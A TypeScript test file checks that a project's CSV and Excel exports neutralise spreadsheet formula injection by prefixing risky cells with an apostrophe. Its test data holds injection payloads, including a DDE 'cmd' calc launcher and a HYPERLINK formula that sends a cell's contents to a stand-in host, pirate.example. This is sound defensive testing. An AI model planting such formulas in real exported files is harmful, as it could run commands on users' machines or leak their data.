import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import readExcelFile from 'read-excel-file/node'
import { describe, expect, it } from 'vitest'
import writeExcelFile from 'write-excel-file/node'
import { csvFile, csvLine, formulaSafe, textCell } from '../../../src/kernel/exported-cells.ts'
import { projectPath } from '../../../src/project-path.ts'

const formulas = [
  '=1+1',
  '+33 5 62 00 00 00',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://pirate.example?x="&A1;"Cliquez")',
  '-1;=2',
]
const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc
    .tuple(fc.constantFrom(...formulas, '', '"', ';'), fc.string({ maxLength: 10 }))
    .map((parts) => parts.join('')),
)
const startsFormula = (text: string) =>
  /^[=+\-@\t\r\n\0＝＋－＠]/u.test(text) && !/^-\d+([.,]\d+)?$/.test(text)

describe('a cell', () => {
  it.each(formulas)('%j does not run', (formula) => {
    expect(formulaSafe(formula)).toBe(`'${formula}`)
  })

  it.each(['', 'Sciure', '12', '-12', '-12,5', '-0.25', 'a=b', '3-4', 'l’eau', '44.01'])(
    '%j stays what it is',
    (text) => expect(formulaSafe(text)).toBe(text),
  )

  it('is the text or the text behind an apostrophe, and never starts as a formula', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const safe = formulaSafe(text)
        expect([text, `'${text}`]).toContain(safe)
        expect(startsFormula(safe)).toBe(false)
      }),
    )
  })
})

describe('a CSV file', () => {
  it('gives back its cells to whoever reads it, each in its place, none a formula', () => {
    const table = fc
      .integer({ min: 1, max: 4 })
      .chain((width) => fc.array(fc.array(anyText, { minLength: width, maxLength: width }), { minLength: 1 }))
    fc.assert(
      fc.property(table, (rows) => {
        const read: string[][] = parse(csvFile(rows), {
          bom: true,
          delimiter: ';',
          recordDelimiter: '\r\n',
          skipEmptyLines: false,
        })
        expect(read).toEqual(rows.map((row) => row.map(formulaSafe)))
        expect(read.flat().filter(startsFormula)).toEqual([])
      }),
    )
  })

  it('has one line for each row, whatever the row holds', () => {
    expect(csvLine(['a;b', 'c"d', 'e\nf', '=g'])).toBe('"a;b";"c""d";"e\nf";\'=g\r\n')
  })
})

describe('a workbook', () => {
  it('opens whatever its texts hold, and has no formula', async () => {
    const texts = fc.array(anyText, { minLength: 1, maxLength: 20 })
    await fc.assert(
      fc.asyncProperty(texts, async (column) => {
        const file = await writeExcelFile(column.map((text) => [textCell(text)])).toBuffer()
        const cells = (await readExcelFile(file)).flatMap(({ data }) => data.flat())
        const read = cells.map((cell) => cell ?? '')
        expect(read.every((cell) => typeof cell === 'string' && !startsFormula(cell))).toBe(true)
      }),
      { numRuns: 30 },
    )
  })

  it('opens with the words that every object knows', async () => {
    const words = Object.getOwnPropertyNames(Object.prototype)
    const file = await writeExcelFile(words.map((word) => [textCell(word)])).toBuffer()
    const cells = (await readExcelFile(file)).flatMap(({ data }) => data.flat())
    expect(cells.map((cell) => String(cell).trim())).toEqual(words)
  })

  it('cuts a text that no spreadsheet would open', () => {
    expect(textCell('x'.repeat(40_000))?.value).toHaveLength(32_767)
    expect(textCell('\0\u0001')).toBeNull()
  })
})

describe('whatever writes for a spreadsheet', () => {
  const sources = readdirSync(projectPath('src'), { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.ts') && !name.endsWith('exported-cells.ts'))
    .map((name) => [name, readFileSync(join(projectPath('src'), name), 'utf8')] as const)

  it('takes its cells from here', () => {
    const writers = sources.filter(([, source]) => /write-excel-file|\\ufeff\$\{|join\('[;,]'\)/.test(source))
    expect(writers.map(([name]) => name).length).toBeGreaterThan(0)
    const strays = writers.filter(([, source]) => !source.includes('exported-cells.ts')).map(([name]) => name)
    expect(strays, 'write cells with csvLine, csvFile or textCell of src/kernel/exported-cells.ts').toEqual(
      [],
    )
  })
})
